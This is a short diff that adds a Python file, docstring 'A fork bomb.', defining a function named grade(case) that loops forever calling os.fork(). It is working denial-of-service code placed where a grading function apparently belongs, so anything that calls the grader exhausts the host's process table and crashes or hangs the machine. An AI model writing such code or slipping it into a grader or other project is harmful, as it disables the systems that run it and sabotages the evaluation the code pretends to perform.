@@ -1,0 +1,8 @@
+"""A fork bomb."""
+
+import os
+
+
+def grade(case):
+    while True:
+        os.fork()
